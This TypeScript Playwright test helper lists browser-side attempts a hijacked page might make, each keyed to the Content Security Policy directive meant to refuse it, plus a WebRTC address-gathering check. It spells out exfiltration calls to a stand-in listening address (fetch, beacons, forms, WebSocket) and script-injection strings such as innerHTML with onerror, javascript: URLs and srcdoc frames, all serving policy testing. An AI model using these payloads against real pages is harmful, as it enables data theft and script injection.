/**
 * What a page that was taken over would try. Each function is sent into the page as its source, so it uses nothing from
 * outside itself; `away` is an address where somebody listens. Code that runs where none may sets `window.ran`.
 */
import type { Page } from '@playwright/test'

declare global {
  interface Window {
    ran?: boolean
  }
}

/** For functions that no code of ours may name. */
type Call = (object: object, name: string, text: string) => unknown
type Attempt = (away: string, call: Call) => unknown

/** By the directive of the page's policy that refuses it. */
export const againstPolicy: Readonly<Record<string, Readonly<Record<string, Attempt>>>> = {
  'connect-src': {
    fetch: (away) => fetch(away),
    'fetch without CORS': (away) => fetch(away, { mode: 'no-cors', method: 'POST', body: 'x' }),
    'fetch of a name': () => fetch('https://example.com/'),
    'fetch of the page itself': () => fetch('/index.html'),
    XMLHttpRequest: (away) => {
      const request = new XMLHttpRequest()
      request.open('POST', away)
      request.send('x')
    },
    WebSocket: (away) => new WebSocket(away.replace('http:', 'ws:')),
    EventSource: (away) => new EventSource(away),
    'a beacon': (away) => navigator.sendBeacon(away, 'x'),
    WebTransport: (away) => new WebTransport(away.replace('http:', 'https:')).ready,
  },
  'frame-src': {
    'a frame of elsewhere': (away) => {
      const frame = document.createElement('iframe')
      frame.src = away
      document.body.append(frame)
    },
    'a frame made of text': () => {
      const frame = document.createElement('iframe')
      frame.src = 'data:text/html,<script>parent.ran = true</script>'
      document.body.append(frame)
    },
  },
  'img-src': {
    'a picture': (away) => {
      new Image().src = away
    },
  },
  'media-src': {
    'a sound': (away) => new Audio(away).load(),
  },
  'font-src': {
    'a font': (away) => new FontFace('away', `url(${away})`).load(),
  },
  'style-src-elem': {
    'a style sheet': (away) => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = away
      document.head.append(link)
    },
    'styles in the page': (away) => {
      const style = document.createElement('style')
      style.textContent = `body { background: url(${away}) }`
      document.head.append(style)
    },
  },
  'script-src-elem': {
    'a module of elsewhere': (away) => import(away),
    'an address that is a script': () => {
      location.href = 'javascript:window.ran = true'
    },
    'an address that is a script, in a link': () => {
      const link = document.createElement('a')
      link.href = 'javascript:window.ran = true'
      document.body.append(link)
      link.click()
    },
  },
  'base-uri': {
    'another base': (away) => {
      const base = document.createElement('base')
      base.href = away
      document.head.append(base)
    },
  },
  'form-action': {
    'a form': (away) => {
      const form = document.createElement('form')
      form.action = away
      form.method = 'post'
      document.body.append(form)
      form.submit()
    },
  },
  'require-trusted-types-for': {
    eval: (_away, call) => call(window, 'eval', 'window.ran = true'),
    Function: (_away, call) => call(window, 'Function', 'window.ran = true'),
    'a timer of text': (_away, call) => call(window, 'setTimeout', 'window.ran = true'),
    innerHTML: () => {
      document.createElement('p').innerHTML = '<img src=x onerror="ran = true">'
    },
    insertAdjacentHTML: () => document.createElement('p').insertAdjacentHTML('beforeend', '<b>x</b>'),
    'document.write': (_away, call) => call(document, 'write', '<script>ran = true</script>'),
    DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'a range of text': () => new Range().createContextualFragment('<b>x</b>'),
    'a frame with a document of text': () => {
      document.createElement('iframe').srcdoc = '<script>parent.ran = true</script>'
    },
    'a frame with a document as attribute': () =>
      document.createElement('iframe').setAttribute('srcdoc', '<script>parent.ran = true</script>'),
    'text of a script': () => {
      document.createElement('script').text = 'window.ran = true'
    },
    'source of a script': (away) => {
      document.createElement('script').src = away
    },
    'a script of the page, in it': () => {
      const script = document.createElementNS('http://www.w3.org/2000/svg', 'script')
      script.append('window.ran = true')
      document.body.append(script)
    },
    'a handler in an attribute': () => document.body.setAttribute('onclick', 'window.ran = true'),
    'an object': (away) => document.createElement('object').setAttribute('data', away),
    'a worker': () => new Worker('/index.html'),
    'a worker of text': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
    'a shared worker': () => new SharedWorker('/index.html'),
    'a service worker': () => navigator.serviceWorker.register('/index.html'),
    'a script in an empty frame': () => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const inside = frame.contentDocument as Document
      inside.addEventListener('securitypolicyviolation', (event) =>
        document.dispatchEvent(new SecurityPolicyViolationEvent(event.type, event)),
      )
      const script = inside.createElement('script')
      script.append('parent.ran = true')
      inside.body.append(script)
    },
    'eval of an empty frame': (_away, call) => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const inside = frame.contentWindow as Window
      inside.document.addEventListener('securitypolicyviolation', (event) =>
        document.dispatchEvent(new SecurityPolicyViolationEvent(event.type, event)),
      )
      call(inside, 'eval', 'parent.ran = true')
    },
  },
  'trusted-types': {
    'a policy of its own': () =>
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
  },
}

/** The directive by which the page's policy refuses the attempt. */
export function refusedBy(page: Page, attempt: Attempt, away: string): Promise<string> {
  return page.evaluate(`(${String(watched)})(${String(attempt)}, ${JSON.stringify(away)})`)
}

function watched(attempt: Attempt, away: string): Promise<string> {
  const call: Call = (object, name, text) => Reflect.apply(Reflect.get(object, name) as () => unknown, object, [text])
  return new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
    // In a task of the page's own: what the debugger calls may make code of text.
    setTimeout(
      () =>
        void Promise.resolve(away)
          .then((to) => attempt(to, call))
          .catch(() => undefined),
    )
  })
}

/** Addresses that a call between browsers could be made from. */
export function addressesToCallFrom(page: Page, server: string): Promise<readonly string[]> {
  return page.evaluate(async (urls) => {
    const found: string[] = []
    const gather = async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls }] })
      peer.createDataChannel('x')
      const end = new Promise<boolean>((resolve) => {
        peer.onicecandidate = ({ candidate }) => {
          if (candidate === null) resolve(true)
          else if (candidate.candidate !== '') found.push(candidate.candidate)
        }
      })
      await peer.setLocalDescription(await peer.createOffer())
      return Promise.race([end, new Promise<boolean>((resolve) => setTimeout(() => resolve(false), 500))])
    }
    // A page's first search may have no end: the list of interfaces comes when it is already under way.
    while (!(await gather()));
    return found
  }, server)
}
